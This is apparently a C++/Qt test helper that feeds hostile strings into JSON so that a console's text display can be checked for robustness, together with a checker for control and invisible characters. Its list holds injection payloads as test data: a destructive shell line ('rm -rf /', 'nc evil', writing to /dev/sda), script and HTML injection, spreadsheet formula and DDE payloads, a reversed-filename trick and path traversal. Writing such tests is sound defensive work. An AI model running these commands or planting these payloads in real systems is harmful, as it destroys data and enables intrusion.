#pragma once

#include <QJsonArray>
#include <QJsonObject>
#include <QString>
#include <QStringList>

/// What a server, a tenant or a stranger may write into any text that the console shows, and the question whether a shown text is harmless.
namespace tmtest::hostile {

/// Texts that try to be markup, to move the cursor, to reverse a sentence, to hide something, to be filled in, to run or to be computed.
inline QStringList texts()
{
    using namespace Qt::StringLiterals;
    return {
        u"<b>bold</b><img src='http://evil/x.png'><a href='file:///etc/passwd'>open</a>"_s,
        u"<table><tr><td>1</td></tr></table><script>alert(1)</script>&amp;&#8238;"_s,
        u"\u001b[2J\u001b[31mred\u001b[0m\u001b]0;title\u0007\u001b]8;;http://evil\u0007link\u001b]8;;\u0007\u001bP1$q\u001b\\"_s,
        u"\u009b31mC1 \u0085next\u0090dcs\u009c"_s,
        u"invoice\u202Egpj.exe \u2066isolated\u2069 \u200Fmark \u061Carabic"_s,
        u"pay\u200Bpal\u200D\u2060\uFEFF\u00AD hidden\u2028line\u2029paragraph"_s,
        u"a"_s + QChar(0) + u"b\r\nc\td\be\vf\ff\u007f"_s,
        u"שלום עולם مرحبا بالعالم"_s,
        u"%1 %2 %n %L1 %% %s %d %99 {{role-password}} {0} ${x}"_s,
        u"$(reboot) `id` ; rm -rf / | nc evil 1 && true > /dev/sda 'a' \"b\" \\"_s,
        u"=HYPERLINK(\"http://evil\",\"x\")"_s,
        u"+1+cmd|' /C calc'!A0"_s,
        u"-2+3"_s,
        u"@SUM(1+1)*cmd"_s,
        u"\t=1+1"_s,
        u"&File &&Quit"_s,
        u"https://evil.example/ javascript:alert(1)"_s,
        u"../../etc/passwd"_s,
        u"😀👨‍👩‍👧‍👦 Z͑ͫ̓ͪ̂ͫ̽a̴l̶g̷o"_s,
        QString(4000, u'W'),
        QString(300, u'x').replace(u"xxx"_s, u"x\n"_s),
        QString::fromUtf8("broken \xC3\x28 \xF0\x28\x8C\xBC \xED\xA0\x80 utf-8"),
        QString(QChar(0xD800)) + u"lonely"_s + QChar(0xDC00),
        u"2026-13-45T99:99:99Z"_s,
    };
}

/// True when no character of the text can move, hide or reorder what is around it.
inline bool isInert(const QString &text, bool linesAllowed = true)
{
    for (const QChar character : text) {
        const char16_t unit = character.unicode();
        const bool isControl = (unit < 0x20 && !(linesAllowed && (unit == u'\n' || unit == u'\t'))) || (unit >= 0x7F && unit <= 0x9F);
        const bool isReordering = (unit >= 0x202A && unit <= 0x202E) || (unit >= 0x2066 && unit <= 0x2069) || unit == 0x061C;
        const bool isHidden = (unit >= 0x200B && unit <= 0x200F && unit != 0x200D) || unit == 0x2060 || unit == 0xFEFF;
        if (isControl || isReordering || isHidden)
            return false;
    }
    return true;
}

/// The same JSON with every string replaced, each time by the next text of the list behind a running number, so that what has to be
/// unique stays so. Values of the named keys stay, and with them everything below.
class Spoiler final {
public:
    explicit Spoiler(QStringList kept, int first = 0) : m_kept(std::move(kept)), m_next(first) {}

    QJsonValue spoiled(const QJsonValue &value)
    {
        if (value.isObject()) {
            QJsonObject object = value.toObject();
            for (const QString &key : object.keys())
                if (!m_kept.contains(key))
                    object.insert(key, spoiled(object.value(key)));
            return object;
        }
        if (value.isArray()) {
            QJsonArray array;
            const QJsonArray before = value.toArray();
            for (const QJsonValue &each : before)
                array.append(spoiled(each));
            return array;
        }
        return value.isString() ? QJsonValue(next()) : value;
    }
    QString next()
    {
        static const QStringList all = texts();
        const int number = m_next++;
        return all.at(number % all.size()) + QString::number(number);
    }

private:
    QStringList m_kept;
    int m_next;
};

} // namespace tmtest::hostile
